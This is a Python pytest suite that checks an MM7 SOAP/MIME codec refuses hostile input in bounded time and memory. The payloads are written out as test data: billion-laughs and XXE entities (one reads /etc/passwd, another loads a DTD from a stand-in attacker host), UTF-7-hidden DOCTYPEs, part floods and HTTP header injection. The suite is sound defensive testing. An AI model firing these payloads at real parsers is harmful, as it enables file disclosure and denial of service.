"""Hostile input, one test per attack: the exact error class and status, in bounded time and memory.

Each test names the attack it stands for. Time is measured with
``time.perf_counter`` against generous bounds (they catch hangs and quadratic
blow-ups, not slowness); memory with ``tracemalloc`` peaks where the attack
is about memory.
"""

from __future__ import annotations

import binascii
import re
import time
import tracemalloc
from pathlib import Path
from typing import Callable, Iterator, Optional, Tuple, TypeVar

import pytest

from mm7codec import (
    DEFAULT_MAX_ENVELOPE_SIZE,
    DEFAULT_MAX_HEADER_SIZE,
    DEFAULT_MAX_MESSAGE_SIZE,
    DEFAULT_MAX_PARTS,
    DecodeError,
    Decoder,
    EncodeError,
    LimitExceededError,
    Limits,
    Message,
    MM7Error,
    Part,
    UnsupportedOperationError,
    decode,
    decode_http,
    encode,
)
from mm7codec._mime import parse

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
NS = "http://www.3gpp.org/ftp/Specs/archive/23_series/23.140/schema/REL-6-MM7-1-4"
SOAP = "http://schemas.xmlsoap.org/soap/envelope/"
DECL = '<?xml version="1.0" encoding="UTF-8"?>'
RSP = (
    f'<SubmitRsp xmlns="{NS}"><MM7Version>6.8.0</MM7Version><Status>'
    "<StatusCode>1000</StatusCode><StatusText>ok</StatusText></Status>"
    "<MessageID>m-1</MessageID></SubmitRsp>"
)
MP = 'multipart/related; boundary="b"; type="text/xml"; start="<soap>"'
T = TypeVar("T")


def envelope(body: str = RSP, *, decl: str = DECL, prolog: str = "", header: str = "") -> str:
    return (
        f'{decl}{prolog}<env:Envelope xmlns:env="{SOAP}"><env:Header>{header}'
        f'<mm7:TransactionID xmlns:mm7="{NS}">tx-1</mm7:TransactionID></env:Header>'
        f"<env:Body>{body}</env:Body></env:Envelope>"
    )


def soap_multipart(soap: bytes, soap_headers: str = "Content-Type: text/xml") -> bytes:
    """A multipart/related body: the SOAP part (Content-ID <soap>), then a text part."""
    return (
        f"--b\r\n{soap_headers}\r\nContent-ID: <soap>\r\n\r\n".encode("latin-1")
        + soap
        + b"\r\n--b\r\nContent-Type: text/plain\r\nContent-ID: <t>\r\n\r\nhello\r\n--b--\r\n"
    )


def raises(
    exc: type, func: Callable[[], object], *, seconds: float = 5.0, status: int = 4004
) -> MM7Error:
    """``func()`` raises exactly ``exc`` with ``status`` within ``seconds``; returns it."""
    start = time.perf_counter()
    with pytest.raises(MM7Error) as info:
        func()
    elapsed = time.perf_counter() - start
    assert type(info.value) is exc, f"{type(info.value).__name__}: {info.value}"
    assert info.value.status_code == status
    assert elapsed < seconds, f"took {elapsed:.2f} s"
    return info.value


def peak_memory(func: Callable[[], T]) -> Tuple[T, int]:
    """``func()`` and the tracemalloc peak (bytes) while it ran."""
    tracemalloc.start()
    try:
        result = func()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def all_ways(body: bytes, content_type: Optional[str]) -> Iterator[Callable[[], Message]]:
    """decode() whole, and a Decoder fed one byte at a time."""
    yield lambda: decode(body, content_type)

    def bytewise() -> Message:
        decoder = Decoder(content_type)
        for i in range(len(body)):
            decoder.feed(body[i : i + 1])
        return decoder.close()

    yield bytewise


def split_http(raw: bytes) -> Tuple[bytes, bytes]:
    head, _, body = raw.partition(b"\r\n\r\n")
    return head, body


def with_length(head: bytes, length: int) -> bytes:
    return re.sub(rb"Content-Length: \d+", b"Content-Length: %d" % length, head)


def test_clean_envelope_decodes() -> None:
    # The baseline every attack below is a variation of.
    message = decode(envelope().encode(), "text/xml")
    assert message.pdu.message_id == "m-1"
    assert message.defects == ()


# -- DTDs and entities ---------------------------------------------------------------------------


def test_billion_laughs_is_refused_before_any_expansion() -> None:
    lol = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    doc = envelope(
        RSP.replace("ok", "&l9;"), prolog=f'<!DOCTYPE env:Envelope [<!ENTITY l0 "lol">{lol}]>'
    ).encode()
    (error, peak) = peak_memory(lambda: raises(DecodeError, lambda: decode(doc, "text/xml")))
    assert "DOCTYPE" in error.message
    assert peak < 1 << 20  # 10**9 'lol's would be 3 GB


def test_quadratic_blowup_internal_entity_is_refused() -> None:
    doc = envelope(
        RSP.replace("ok", "&a;" * 10_000),
        prolog=f'<!DOCTYPE env:Envelope [<!ENTITY a "{"x" * 10_000}">]>',
    ).encode()
    (_, peak) = peak_memory(lambda: raises(DecodeError, lambda: decode(doc, "text/xml")))
    assert peak < 4 << 20  # expanded it would be 100 MB


def test_external_entity_xxe_is_refused() -> None:
    doc = envelope(
        RSP.replace("ok", "&xxe;"),
        prolog='<!DOCTYPE env:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    ).encode()
    error = raises(DecodeError, lambda: decode(doc, "text/xml"))
    assert "root:" not in str(error)


def test_parameter_entity_with_external_dtd_is_refused() -> None:
    doc = envelope(
        prolog='<!DOCTYPE env:Envelope [<!ENTITY % dtd SYSTEM "http://attacker.invalid/x.dtd">'
        "%dtd;]>"
    ).encode()
    raises(DecodeError, lambda: decode(doc, "text/xml"))


def test_entity_declaration_without_doctype_is_refused() -> None:
    # Not well-formed anyway, but refused by the scan before expat sees it.
    doc = envelope(prolog='<!ENTITY x "y">').encode()
    error = raises(DecodeError, lambda: decode(doc, "text/xml"))
    assert "DOCTYPE / entity" in error.message


def test_harmless_doctype_is_refused_too() -> None:
    raises(DecodeError, lambda: decode(envelope(prolog="<!DOCTYPE x>").encode(), "text/xml"))


def test_doctype_in_the_multipart_soap_part_is_refused() -> None:
    soap = envelope(prolog='<!DOCTYPE x [<!ENTITY e "v">]>').encode()
    for func in all_ways(soap_multipart(soap), MP):
        raises(DecodeError, func)


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be"])
def test_doctype_in_utf16_is_refused(codec: str) -> None:
    decl = '<?xml version="1.0" encoding="UTF-16"?>'
    soap = envelope(prolog="<!DOCTYPE x>", decl=decl).encode(codec)
    raises(DecodeError, lambda: decode(soap, "text/xml; charset=utf-16"))
    part = soap_multipart(soap, 'Content-Type: text/xml; charset="utf-16"')
    raises(DecodeError, lambda: decode(part, MP))


def test_doctype_hidden_by_a_transcoded_charset_is_refused() -> None:
    # UTF-7 spells '<' as '+ADw-': the scan runs after transcoding, so it still sees it.
    decl = '<?xml version="1.0" encoding="UTF-7"?>'
    doc = envelope(prolog="+ADw-!DOCTYPE x+AD4-", decl=decl).encode("ascii")
    assert b"<!DOCTYPE" not in doc
    raises(DecodeError, lambda: decode(doc, "text/xml"))


# -- depth ---------------------------------------------------------------------------------------

DEEP = "<x>" * 10_000 + "</x>" * 10_000


@pytest.mark.parametrize(
    "where",
    ["pdu", "header", "status", "details", "after-body-item", "envelope"],
)
def test_10000_deep_xml_hits_max_xml_depth(where: str) -> None:
    docs = {
        "pdu": envelope(RSP.replace("<MessageID>", DEEP + "<MessageID>")),
        "header": envelope(header=DEEP),
        "status": envelope(RSP.replace("<StatusText>", DEEP + "<StatusText>")),
        "details": envelope(RSP.replace("</Status>", f"<Details>{DEEP}</Details></Status>")),
        "after-body-item": envelope(RSP + DEEP),
        "envelope": envelope().replace("</env:Envelope>", DEEP + "</env:Envelope>"),
    }
    doc = docs[where].encode()
    (error, peak) = peak_memory(lambda: raises(LimitExceededError, lambda: decode(doc, "text/xml")))
    assert isinstance(error, LimitExceededError) and error.limit == "max_xml_depth"
    assert peak < 32 << 20


def test_10000_deep_xml_as_the_body_item_is_not_a_pdu() -> None:
    # The first Body child is not an MM7 PDU: refused as such (4003), before any walk.
    doc = envelope(DEEP).encode()
    raises(UnsupportedOperationError, lambda: decode(doc, "text/xml"), status=4003)


# -- MIME structure ------------------------------------------------------------------------------


def test_100000_parts_stop_at_max_parts_without_building_them() -> None:
    body = b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n" * 100_000 + b"--b--\r\n"

    def run() -> MM7Error:
        return raises(LimitExceededError, lambda: decode(body, MP), seconds=5.0)

    (error, peak) = peak_memory(run)
    assert isinstance(error, LimitExceededError) and error.limit == "max_parts"
    assert error.value == DEFAULT_MAX_PARTS
    # Stopped at part 1001: the offset is near 1000 parts in, not at the end.
    assert error.offset is not None and error.offset < 40 * (DEFAULT_MAX_PARTS + 2)
    assert peak < 8 << 20


def test_100000_parts_fed_in_chunks_stop_early() -> None:
    part = b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n"
    decoder = Decoder(MP)
    fed = 0
    with pytest.raises(LimitExceededError) as info:
        for _ in range(100_000 // 100):
            decoder.feed(part * 100)
            fed += 1
    assert info.value.limit == "max_parts"
    assert fed <= DEFAULT_MAX_PARTS // 100 + 1


def test_multipart_nesting_past_max_depth() -> None:
    nested = b"".join(
        b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (i, i + 1)
        for i in range(50)
    )
    for func in all_ways(nested, "multipart/related; boundary=b0"):
        error = raises(LimitExceededError, func)
        assert isinstance(error, LimitExceededError) and error.limit == "max_depth"


# -- long lines ----------------------------------------------------------------------------------

TEN_MB = 10 << 20


def test_10mb_http_header_line_decode_http() -> None:
    raw = b"POST /mm7 HTTP/1.1\r\nX-Long: " + b"a" * TEN_MB + b"\r\n\r\n" + envelope().encode()
    error = raises(LimitExceededError, lambda: decode_http(raw))
    assert isinstance(error, LimitExceededError) and error.limit == "max_header_size"


def test_10mb_http_header_without_blank_line_decode_http() -> None:
    raw = b"POST /mm7 HTTP/1.1\r\nX-Long: " + b"a" * TEN_MB
    raises(DecodeError, lambda: decode_http(raw))


def test_10mb_mime_part_header_line_fed_in_chunks_is_not_buffered() -> None:
    chunk = b"a" * (64 << 10)

    def run() -> int:
        decoder = Decoder(MP)
        decoder.feed(b"--b\r\nContent-Type: text/xml\r\nX-Long: ")
        fed = 0
        with pytest.raises(LimitExceededError) as info:
            while fed < TEN_MB:
                decoder.feed(chunk)
                fed += len(chunk)
        assert info.value.limit == "max_header_size"
        assert info.value.status_code == 4004
        return fed

    start = time.perf_counter()
    (fed, peak) = peak_memory(run)
    assert time.perf_counter() - start < 5
    # Refused within about one header block, long before 10 MB arrived.
    assert fed <= DEFAULT_MAX_HEADER_SIZE + len(chunk)
    assert peak < 4 * DEFAULT_MAX_HEADER_SIZE + (1 << 20)


def test_10mb_mime_part_header_line_whole() -> None:
    body = b"--b\r\nContent-Type: text/xml\r\nX-Long: " + b"a" * TEN_MB + b"\r\n\r\n<a/>\r\n--b--"
    error = raises(LimitExceededError, lambda: decode(body, MP))
    assert isinstance(error, LimitExceededError) and error.limit == "max_header_size"


def test_first_boundary_line_too_long_without_label() -> None:
    decoder = Decoder(None)
    with pytest.raises(LimitExceededError) as info:
        for _ in range(10):
            decoder.feed(b"--" + b"b" * (16 << 10))
    assert info.value.limit == "max_header_size"


def test_endless_leading_whitespace_fed_bytewise_is_linear() -> None:
    # Regression: every feed used to re-join and re-sniff the whole body (45 s for 80 KB).
    decoder = Decoder("text/xml")
    start = time.perf_counter()
    for _ in range(100_000):
        decoder.feed(b" ")
    decoder.feed(envelope(decl="").encode())
    assert time.perf_counter() - start < 5
    assert decoder.close().pdu.message_id == "m-1"


def test_long_label_with_a_first_line_fed_bytewise() -> None:
    # Regression: the label was parsed again on every feed while sniffing the body.
    label = 'text/plain; a="' + "x" * 60_000 + '"'
    decoder = Decoder(label)
    decoder.feed(b"--")
    start = time.perf_counter()
    with pytest.raises(LimitExceededError) as info:
        for _ in range(DEFAULT_MAX_HEADER_SIZE + 10):
            decoder.feed(b"y")
    assert info.value.limit == "max_header_size"
    assert time.perf_counter() - start < 10


# -- never-ending input ---------------------------------------------------------------------------


def test_never_ending_part_hits_max_message_size_in_bounded_memory() -> None:
    chunk = b"x" * (1 << 20)
    limits = Limits(max_message_size=16 << 20)

    def run() -> int:
        decoder = Decoder(MP, limits=limits)
        decoder.feed(b"--b\r\nContent-Type: application/octet-stream\r\nContent-ID: <c>\r\n\r\n")
        fed = 0
        with pytest.raises(LimitExceededError) as info:
            while True:
                decoder.feed(chunk)
                fed += len(chunk)
        assert info.value.limit == "max_message_size"
        assert info.value.status_code == 4004
        return fed

    start = time.perf_counter()
    (fed, peak) = peak_memory(run)
    assert time.perf_counter() - start < 10
    assert fed < limits.max_message_size
    # The body spools to a file past spool_threshold (1 MiB): memory stays a few chunks.
    assert peak < 6 << 20


def test_never_ending_part_default_limit() -> None:
    chunk = b"y" * (4 << 20)
    decoder = Decoder(MP)
    decoder.feed(b"--b\r\nContent-Type: application/octet-stream\r\n\r\n")
    start = time.perf_counter()
    with pytest.raises(LimitExceededError) as info:
        for _ in range(DEFAULT_MAX_MESSAGE_SIZE // len(chunk) + 2):
            decoder.feed(chunk)
    assert info.value.limit == "max_message_size"
    assert info.value.value == DEFAULT_MAX_MESSAGE_SIZE
    assert time.perf_counter() - start < 20


def test_never_ending_bare_envelope_hits_max_envelope_size() -> None:
    decoder = Decoder("text/xml")
    decoder.feed(envelope().encode()[:-20])
    with pytest.raises(LimitExceededError) as info:
        for _ in range(100):
            decoder.feed(b"<x>" * 10_000)
    assert info.value.limit == "max_envelope_size"


# -- truncation ----------------------------------------------------------------------------------


@pytest.mark.parametrize("example", ["deliver-mo-picture", "submit-mt-smil"])
def test_truncated_at_every_offset(example: str) -> None:
    raw = (EXAMPLES / f"{example}.http").read_bytes()
    head, body = split_http(raw)
    content_type = re.search(rb"Content-Type: ([^\r\n]+)", head).group(1).decode()  # type: ignore[union-attr]
    start = time.perf_counter()
    outcomes = {"message": 0, "error": 0}
    for n in range(len(raw)):
        try:
            decode_http(raw[:n])
        except MM7Error:
            outcomes["error"] += 1
        else:
            outcomes["message"] += 1
    for n in range(len(body)):
        try:
            decode(body[:n], content_type)
        except MM7Error:
            outcomes["error"] += 1
        else:
            outcomes["message"] += 1
    # A cut HTTP message always disagrees with its Content-Length.
    assert outcomes["error"] >= len(raw)
    assert time.perf_counter() - start < 30


def test_truncated_bare_envelope_is_not_well_formed() -> None:
    doc = envelope().encode()
    for n in (1, 10, len(doc) // 2, len(doc) - 1):
        raises(DecodeError, lambda n=n: decode(doc[:n], "text/xml"))  # type: ignore[misc]


# -- transfer encodings --------------------------------------------------------------------------


def _with_content(body: bytes, cte: str) -> bytes:
    soap = envelope(
        f'<SubmitRsp xmlns="{NS}"><MM7Version>6.8.0</MM7Version><Status>'
        "<StatusCode>1000</StatusCode><StatusText>ok</StatusText></Status>"
        "<MessageID>m-1</MessageID></SubmitRsp>"
    ).encode()
    return (
        b"--b\r\nContent-Type: text/xml\r\nContent-ID: <soap>\r\n\r\n"
        + soap
        + b"\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-ID: <c>\r\n"
        + f"Content-Transfer-Encoding: {cte}\r\n\r\n".encode()
        + body
        + b"\r\n--b--\r\n"
    )


def test_invalid_base64_lenient_and_strict() -> None:
    body = _with_content(b"aGVs!!bG8*gd29y$bGQ=\r\n", "base64")
    message = decode(body, MP)
    kinds = [d.kind for d in message.defects]
    assert "base64-invalid-characters" in kinds
    error = raises(DecodeError, lambda: decode(body, MP, strict=True), status=2004)
    assert "base64-invalid-characters" in error.message


def test_base64_one_stray_character() -> None:
    message = decode(_with_content(b"aGVsbG8gd29ybGQhx", "base64"), MP)
    assert "base64-invalid-length" in [d.kind for d in message.defects]


def test_base64_garbage_only() -> None:
    body = _with_content(bytes(range(256)) * 4, "base64")
    for func in all_ways(body, MP):
        try:
            func()
        except MM7Error as exc:
            assert type(exc) is DecodeError


def test_invalid_quoted_printable_passes_through() -> None:
    raw = b"bad =ZZ escape =\r\nsoft = end=4"
    body = _with_content(raw, "quoted-printable")
    for func in all_ways(body, MP):
        message = func()
        assert [d.kind for d in message.defects] == ["content-without-reference"]
        assert message.content is not None
        assert message.content.data == binascii.a2b_qp(raw)


def test_unknown_transfer_encoding_is_kept_raw() -> None:
    body = _with_content(b"@@raw@@", "x-uuencode")
    message = decode(body, MP)
    assert [d.kind for d in message.defects] == [
        "unknown-transfer-encoding",
        "content-without-reference",
    ]
    raises(DecodeError, lambda: decode(body, MP, strict=True))


# -- charsets ------------------------------------------------------------------------------------


def test_bogus_xml_encoding_declaration() -> None:
    doc = envelope(decl='<?xml version="1.0" encoding="bogus"?>').encode()
    error = raises(DecodeError, lambda: decode(doc, "text/xml"))
    assert "bogus" in error.message


@pytest.mark.parametrize("name", ["punycode", "undefined", "rot13", "a\x00b", "x" * 5000])
@pytest.mark.parametrize("padding", [0, 600])
def test_odd_codec_names_in_the_declaration(name: str, padding: int) -> None:
    # Regression: punycode/undefined raised UnicodeError, a NUL ValueError; with a
    # declaration past 512 bytes expat looked the name up itself (LookupError).
    decl = f'<?xml version="1.0"{" " * padding} encoding="{name}"?>'
    doc = envelope(decl=decl).encode("latin-1")
    raises(DecodeError, lambda: decode(doc, "text/xml"))


@pytest.mark.parametrize("padding", [0, 600])
def test_idna_declaration_decodes_or_fails_cleanly(padding: int) -> None:
    decl = f'<?xml version="1.0"{" " * padding} encoding="idna"?>'
    try:
        decode(envelope(decl=decl).encode(), "text/xml")
    except MM7Error as exc:
        assert type(exc) is DecodeError


def test_part_charset_x_unknown_is_a_defect() -> None:
    body = soap_multipart(envelope().encode(), "Content-Type: text/xml; charset=x-unknown")
    message = decode(body, MP)
    assert "charset-mismatch" in [d.kind for d in message.defects]
    raises(DecodeError, lambda: decode(body, MP, strict=True))


def test_part_charset_x_unknown_without_declaration() -> None:
    body = soap_multipart(envelope(decl="").encode(), "Content-Type: text/xml; charset=x-unknown")
    message = decode(body, MP)
    assert "charset-mismatch" in [d.kind for d in message.defects]


@pytest.mark.parametrize("charset", ["idna", "utf\x00-8"])
def test_rfc2231_parameter_in_an_odd_charset(charset: str) -> None:
    # Regression: name*=idna''... raised UnicodeError out of the header parser.
    body = soap_multipart(envelope().encode(), f"Content-Type: text/xml; name*={charset}''a%41b")
    message = decode(body, MP)
    assert message.pdu.message_id == "m-1"


def test_gb2312_declared_with_invalid_bytes() -> None:
    decl = '<?xml version="1.0" encoding="GB2312"?>'
    doc = envelope(decl=decl).encode().replace(b"ok", b"\xff\xfe\xff")
    error = raises(DecodeError, lambda: decode(doc, "text/xml"))
    assert "GB2312" in error.message


def test_gb2312_part_charset_with_invalid_bytes() -> None:
    soap = envelope(decl="").encode().replace(b"ok", b"\xff\xfe\xff")
    body = soap_multipart(soap, "Content-Type: text/xml; charset=GB2312")
    raises(DecodeError, lambda: decode(body, MP))


def test_invalid_utf8_in_the_envelope() -> None:
    doc = envelope().encode().replace(b"ok", b"\xc3\x28")
    raises(DecodeError, lambda: decode(doc, "text/xml"))


def test_invalid_utf16_in_the_envelope() -> None:
    doc = envelope(decl="").encode("utf-16") + b"\x00\xd8"  # a lone high surrogate
    raises(DecodeError, lambda: decode(doc, "text/xml"))


# -- NUL bytes -----------------------------------------------------------------------------------


def test_nul_byte_in_the_xml() -> None:
    doc = envelope().replace("ok", "o\x00k").encode()
    for func in all_ways(doc, "text/xml"):
        error = raises(DecodeError, func)
        assert "NUL" in error.message


def test_nul_character_reference_in_the_xml() -> None:
    doc = envelope().replace("ok", "o&#0;k").encode()
    raises(DecodeError, lambda: decode(doc, "text/xml"))


def test_nul_byte_in_an_http_header() -> None:
    raw = (EXAMPLES / "delivery-report.http").read_bytes()
    bad = raw.replace(b"\r\nHost:", b"\r\nX-Trace: a\x00b\r\nHost:", 1)
    error = raises(DecodeError, lambda: decode_http(bad))
    assert "NUL" in error.message


def test_bare_cr_in_an_http_header() -> None:
    raw = (EXAMPLES / "delivery-report.http").read_bytes()
    bad = raw.replace(b"\r\nHost:", b"\r\nX-Trace: a\rContent-Length: 0\r\nHost:", 1)
    raises(DecodeError, lambda: decode_http(bad))


def test_nul_byte_in_a_mime_part_header() -> None:
    # The SOAP part's Content-ID no longer matches start: found by type, with a defect.
    body = soap_multipart(envelope().encode()).replace(b"<soap>", b"<so\x00ap>", 1)
    message = decode(body, MP)
    assert message.pdu.message_id == "m-1"
    assert "start-matches-no-part" in [d.kind for d in message.defects]
    raises(DecodeError, lambda: decode(body, MP, strict=True))


# -- boundaries inside content ------------------------------------------------------------------


def test_encoder_picks_a_boundary_not_in_the_content() -> None:
    from mm7codec import ContentRef, SubmitReq
    from mm7codec._pdu import Address, Recipients, SenderIdentification

    pdu = SubmitReq(
        sender_identification=SenderIdentification(vasp_id="v", vas_id="s"),
        recipients=Recipients(to=[Address.number("15551234567")]),
        content=ContentRef("cid:c"),
    )
    trap = b"line\r\n--B\r\n--B--\r\n--==MM7-\r\nend\r\n--=_mm7_"
    children = [
        Part.bytes(trap, "application/octet-stream", content_id="c1", transfer_encoding="binary"),
        Part.bytes(trap, "text/plain", content_id="c2", transfer_encoding="8bit"),
    ]
    # A boundary the caller chose that occurs in the content is refused, not replaced.
    chosen = Part.multipart("mixed", children, boundary="B", content_id="c")
    with pytest.raises(EncodeError, match="boundary"):
        encode(Message(pdu, "tx", content=chosen))
    content = Part.multipart("mixed", children, content_id="c")
    encoded = encode(Message(pdu, "tx", content=content))
    decoded = decode(encoded.body, encoded.content_type)
    assert decoded.content is not None
    assert [p.data for p in decoded.content.parts] == [trap, trap]
    assert decoded.defects == ()


def test_decoder_keeps_boundary_lookalikes_in_content() -> None:
    inside = b"--bx\r\n--b-\r\n --b\r\n--b trailing text\r\nx--b\r\n--b\tz\r\n--bb--"
    body = (
        b"--b\r\nContent-Type: text/xml\r\nContent-ID: <soap>\r\n\r\n"
        + envelope().encode()
        + b"\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-ID: <c>\r\n\r\n"
        + inside
        + b"\r\n--b--\r\n"
    )
    for func in all_ways(body, MP):
        message = func()
        assert message.content is not None
        assert message.content.data == inside


# -- Content-Length lies -------------------------------------------------------------------------


# A capture is read as present, the defect saying by how much (issue 13; more cases in
# tests/test_conformance.py); strict mode raises.


def test_content_length_longer_than_the_body() -> None:
    head, body = split_http((EXAMPLES / "delivery-report.http").read_bytes())
    raw = with_length(head, len(body) + 10) + b"\r\n\r\n" + body
    message = decode_http(raw)
    assert "10 fewer than Content-Length" in message.defects[0].detail
    error = raises(DecodeError, lambda: decode_http(raw, strict=True))
    assert "Content-Length" in error.message


def test_content_length_shorter_cuts_the_envelope() -> None:
    head, body = split_http((EXAMPLES / "delivery-report.http").read_bytes())
    raw = with_length(head, len(body) - 10) + b"\r\n\r\n" + body
    message = decode_http(raw)
    assert "cut 10 bytes off the body" in message.defects[0].detail
    error = raises(DecodeError, lambda: decode_http(raw, strict=True))
    assert "after Content-Length" in error.message


def test_content_length_shorter_cuts_a_multipart() -> None:
    head, body = split_http((EXAMPLES / "deliver-mo-picture.http").read_bytes())
    raw = with_length(head, len(body) - 10) + b"\r\n\r\n" + body
    message = decode_http(raw)
    kinds = [d.kind for d in message.defects]
    # The cut multipart lacks its close delimiter; the whole body is the message.
    assert kinds[0] == "content-length-mismatch" and "missing-close-delimiter" not in kinds
    assert message == decode_http((EXAMPLES / "deliver-mo-picture.http").read_bytes())
    error = raises(DecodeError, lambda: decode_http(raw, strict=True))
    assert "trailing-data-after-body" in error.message


@pytest.mark.parametrize("value", [b"+10", b"-1", b"1_0", b"0x10", b"ten", b"9" * 5000])
def test_content_length_that_is_not_digits(value: bytes) -> None:
    # Regression: int() took '+10' and '1_0', and raised ValueError past 4300 digits.
    raw = b"POST / HTTP/1.1\r\nContent-Type: text/xml\r\nContent-Length: " + value + b"\r\n\r\n"
    raises(DecodeError, lambda: decode_http(raw + envelope().encode()))


@pytest.mark.parametrize("size", [b"0x10", b"+10", b"-0", b"1_0", b""])
def test_chunk_size_that_is_not_hex_digits(size: bytes) -> None:
    doc = envelope().encode()
    raw = (
        b"POST / HTTP/1.1\r\nContent-Type: text/xml\r\nTransfer-Encoding: chunked\r\n\r\n"
        + size
        + b"\r\n"
        + doc
        + b"\r\n0\r\n\r\n"
    )
    error = raises(DecodeError, lambda: decode_http(raw))
    assert "chunk size" in error.message


# -- oversize envelope ---------------------------------------------------------------------------


def _big_envelope() -> bytes:
    filler = "m" * DEFAULT_MAX_ENVELOPE_SIZE
    return envelope(RSP.replace("<MessageID>m-1", f"<MessageID>{filler}")).encode()


def test_oversize_bare_envelope() -> None:
    doc = _big_envelope()
    for func in (lambda: decode(doc, "text/xml"), lambda: _feed_chunks(doc, "text/xml")):
        error = raises(LimitExceededError, func)
        assert isinstance(error, LimitExceededError) and error.limit == "max_envelope_size"


def test_oversize_envelope_as_a_mime_part() -> None:
    body = soap_multipart(_big_envelope())
    for func in (lambda: decode(body, MP), lambda: _feed_chunks(body, MP)):
        error = raises(LimitExceededError, func)
        assert isinstance(error, LimitExceededError) and error.limit == "max_envelope_size"


def _feed_chunks(body: bytes, content_type: str) -> Message:
    decoder = Decoder(content_type)
    for i in range(0, len(body), 8192):
        decoder.feed(body[i : i + 8192])
    return decoder.close()


def test_small_limits_are_enforced_too() -> None:
    limits = Limits(max_envelope_size=100)
    error = raises(
        LimitExceededError, lambda: decode(envelope().encode(), "text/xml", limits=limits)
    )
    assert isinstance(error, LimitExceededError) and error.value == 100


def test_oversize_spooled_soap_part_is_not_read_back() -> None:
    big = b"<a>" + b"x" * (8 << 20) + b"</a>"
    body = soap_multipart(big)

    def run() -> MM7Error:
        return raises(LimitExceededError, lambda: _feed_chunks(body, MP))

    (error, peak) = peak_memory(run)
    assert isinstance(error, LimitExceededError) and error.limit == "max_envelope_size"
    # Spooled to a file past 1 MiB and refused by size: never 8 MiB in memory.
    assert peak < 3 << 20


# -- one counter for max_message_size: the feeding never picks the outcome ------------------------


def _feed_all(chunks: Iterator[bytes], label: Optional[str], **kwargs: object) -> object:
    decoder = Decoder(label, **kwargs)  # type: ignore[arg-type]
    try:
        for chunk in chunks:
            decoder.feed(chunk)
        return decoder.close().pdu
    except MM7Error as exc:
        return (type(exc).__name__, exc.status_code, getattr(exc, "limit", None))


def _three_ways(body: bytes, label: Optional[str], **kwargs: object) -> object:
    whole = _feed_all(iter((body,)), label, **kwargs)
    bytewise = _feed_all((body[i : i + 1] for i in range(len(body))), label, **kwargs)
    sevens = _feed_all((body[i : i + 7] for i in range(0, len(body), 7)), label, **kwargs)
    assert whole == bytewise == sevens
    return whole


ENVELOPE = (
    (Path(__file__).resolve().parent.parent / "examples" / "delivery-report.http")
    .read_bytes()
    .split(b"\r\n\r\n", 1)[1]
)


def test_bare_envelope_over_max_message_size_every_way() -> None:
    limits = Limits(max_message_size=len(ENVELOPE) - 10)
    outcome = _three_ways(ENVELOPE, "text/xml", limits=limits)
    assert outcome == ("LimitExceededError", 4004, "max_message_size")
    # A first chunk that fills the limit exactly: the next byte is refused by itself.
    exact = Limits(max_message_size=100)
    outcome = _feed_all(iter((ENVELOPE[:100], ENVELOPE[100:])), "text/xml", limits=exact)
    assert outcome == ("LimitExceededError", 4004, "max_message_size")


def test_strict_defect_before_the_limit_wins_every_way() -> None:
    # A base64 body with a bad character well before the limit and the limit inside the
    # body: strict mode reports the defect however the bytes arrive (issue 13).
    b64 = binascii.b2a_base64(bytes(range(256)) * 40).replace(b"\n", b"\r\n") * 3
    bad = b64[:100] + b"!" + b64[100:]
    body = b"--b\r\nContent-Type: image/gif\r\nContent-Transfer-Encoding: base64\r\n\r\n" + bad
    limits = Limits(max_message_size=len(body) - 5000)
    assert _three_ways(body, MP, strict=True, limits=limits) == ("DecodeError", 2004, None)
    lenient = _three_ways(body, MP, limits=limits)
    assert lenient == ("LimitExceededError", 4004, "max_message_size")


def test_bare_lf_body_with_many_parts_fed_whole_is_linear() -> None:
    # Each header block's blank-line search used to run to the end of the buffer
    # when the body had no CRLF at all: 40 MB of bare-LF parts took ~26 s whole
    # (214 ms fed in 64 KiB chunks). A hang guard, far above the linear time.
    part = b"--B\nContent-Type: text/plain\n\n" + b"x" * 40_000 + b"\n"
    body = part * 990 + b"--B--\n"
    start = time.perf_counter()
    root = parse(body, 'multipart/mixed; boundary="B"')
    assert time.perf_counter() - start < 5
    assert len(root.parts) == 990 and root.parts[-1].size == 40_000
